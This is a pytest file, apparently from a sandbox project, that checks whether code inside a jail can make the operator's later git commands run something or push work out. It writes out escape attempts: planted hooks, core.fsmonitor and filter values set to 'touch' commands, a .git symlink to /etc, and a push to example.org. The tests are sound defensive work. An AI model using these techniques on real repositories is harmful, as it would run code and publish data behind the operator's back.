"""Attempts to have the operator's next git command run something, or to publish (SPEC 3.9)."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from engine.execution import snapshots
from engine.git import Git
from tests.execution.escape.jail import Jail


def planted(jail: Jail) -> Path:
    """A file that comes to be when something planted runs outside."""
    return jail.root / "ran-outside"


def test_writing_a_hook(jail: Jail) -> None:
    jail.holds(
        "for place in (P['project'] + '/.git/hooks', run('git', 'rev-parse', '--git-dir').strip() + '/hooks'):\n"
        "    attempt(write, place + '/pre-commit'); attempt(os.makedirs, place + '/x')"
    )


def test_writing_the_repositorys_configuration(jail: Jail) -> None:
    jail.holds(
        "attempt(write, P['project'] + '/.git/config')\n"
        "for name in ('core.fsmonitor', 'core.sshCommand', 'core.hooksPath', 'filter.x.clean', 'alias.st'):\n"
        "    attempt(run, 'git', 'config', name, 'touch /x')"
    )


def test_writing_info_and_the_worktrees_own_administration(jail: Jail) -> None:
    jail.holds(
        "own = run('git', 'rev-parse', '--git-dir').strip()\n"
        "for name in ('/info/exclude', '/info/attributes', '/config.worktree', '/commondir', '/gitdir', '/HEAD'):\n"
        "    attempt(write, own + name); attempt(write, P['project'] + '/.git' + name)"
    )


@pytest.mark.long
def test_exchanging_the_worktrees_git_file(jail: Jail) -> None:
    """Where one file cannot be held in a folder that is written, it is put back after the command."""
    before = (jail.folder / ".git").read_bytes()
    exchange = "lambda: (os.unlink('.git'), os.symlink('/etc', '.git'))"
    for attempt in ("write, '.git'", "os.unlink, '.git'", "os.rename, '.git', 'old'", exchange):
        tried = jail.tries(f"attempt({attempt}); attempt(lambda: os.rename(P['folder'], P['folder'] + '2'))")
        assert tried.exit_code == 0, tried.errors
        assert not (jail.folder / ".git").is_symlink()
        assert (jail.folder / ".git").read_bytes() == before
        assert jail.folder.is_dir()


def test_exchanging_the_git_folder_of_the_operators_tree(jail: Jail) -> None:
    jail.in_the_operators_tree()
    jail.holds(
        "git = P['project'] + '/.git'; attempt(os.rename, git, git + '2')\n"
        "attempt(write, git + '/config'); attempt(write, git + '/hooks/pre-commit')\n"
        "attempt(run, 'git', '-C', P['project'], 'config', 'core.fsmonitor', 'true')"
    )


def test_a_git_folder_that_is_a_link(jail: Jail) -> None:
    """A link cannot be held in its place, so nothing in such a folder is writable."""
    jail.in_the_operators_tree()
    moved = jail.user / "project.git"
    (jail.project / ".git").rename(moved)
    (jail.project / ".git").symlink_to(moved)
    config = (moved / "config").read_bytes()
    jail.tries(
        "git = P['project'] + '/.git'; attempt(os.unlink, git); attempt(os.rename, git, git + '2')\n"
        "attempt(write, git + '/config')"
    )
    assert (jail.project / ".git").readlink() == moved
    assert (moved / "config").read_bytes() == config


def test_writing_a_submodules_configuration(jail: Jail) -> None:
    inner = jail.project / "deep" / "inner"
    inner.mkdir(parents=True)
    subprocess.run(["git", "init", "-q"], cwd=inner, check=True)
    (jail.project / ".gitmodules").write_text('[submodule "inner"]\n\tpath = deep/inner\n\turl = ./inner\n')
    jail.in_the_operators_tree()
    before = [(jail.project / name).read_bytes() for name in ("deep/inner/.git/config", ".gitmodules")]
    jail.tries(
        "os.chdir(P['project'])\n"
        "attempt(write, 'deep/inner/.git/config'); attempt(os.rename, 'deep/inner/.git', 'old')\n"
        "attempt(os.rename, 'deep', 'moved'); attempt(write, '.gitmodules'); attempt(os.unlink, '.gitmodules')"
    )
    assert before == [(jail.project / name).read_bytes() for name in ("deep/inner/.git/config", ".gitmodules")]


def test_filters_and_attributes_planted_in_the_worktree(jail: Jail) -> None:
    """The files of the worktree are its own; what git makes of them outside runs nothing."""
    mark = planted(jail)
    tried = jail.tries(
        "write('.gitattributes', '* filter=x diff=x merge=x\\n')\n"
        "write('.gitconfig', f'[filter \"x\"]\\n\\tclean = touch {P[\"mark\"]}\\n')\n"
        "write('.gitconfig', f'[core]\\n\\tfsmonitor = touch {P[\"mark\"]}\\n')\n"
        "write('code.py', 'changed'); print('held: nothing to hold')",
        mark=str(mark),
    )
    assert tried.exit_code == 0, tried.errors
    snapshots.take_snapshot(Git(jail.folder).pin())
    for arguments in (("status",), ("diff",), ("-C", str(jail.folder), "status"), ("-C", str(jail.folder), "diff")):
        jail.git(*arguments)
    assert not mark.exists()


def test_a_configuration_in_the_operators_home(jail: Jail) -> None:
    jail.holds(
        "attempt(write, P['user'] + '/.gitconfig'); attempt(os.makedirs, P['user'] + '/.config/git')\n"
        "attempt(run, 'git', 'config', '--global', 'core.pager', 'touch /x',"
        " env={'HOME': P['user'], 'PATH': os.environ['PATH']})"
    )
    assert (jail.user / ".gitconfig").read_text() == "[user]\n\tname = Ann\n"


def test_pushing_and_committing(jail: Jail) -> None:
    remote = jail.user / "remote.git"
    jail.git("init", "-q", "--bare", str(remote))
    jail.git("remote", "add", "origin", str(remote))
    before = jail.git("rev-parse", "HEAD")
    jail.holds(
        "attempt(run, 'git', 'push', 'origin', 'HEAD:refs/heads/planted')\n"
        "attempt(run, 'git', 'commit', '--allow-empty', '-m', 'planted')\n"
        "attempt(run, 'git', 'branch', 'planted'); attempt(run, 'git', 'update-ref', 'refs/heads/main', 'HEAD')\n"
        "attempt(run, 'git', 'push', 'https://example.org/x.git', 'HEAD')"
    )
    assert jail.git("for-each-ref", "--format=%(refname)", "refs/heads/planted") == ""
    assert jail.git("rev-parse", "HEAD") == before
    assert subprocess.run(["git", "for-each-ref"], cwd=remote, capture_output=True, check=True).stdout == b""


@pytest.mark.skipif(shutil.which("git") is None, reason="no git")
def test_pointing_the_operators_git_elsewhere_by_an_object(jail: Jail) -> None:
    jail.holds(
        "attempt(write, P['project'] + '/.git/objects/info/alternates')\n"
        "write('code.py')\n"
        "attempt(run, 'git', 'hash-object', '-w', 'code.py', env={**os.environ, "
        "'GIT_OBJECT_DIRECTORY': P['project'] + '/.git/objects'})\n"
        "attempt(write, P['project'] + '/.git/index'); attempt(write, P['project'] + '/.git/refs/heads/planted')"
    )
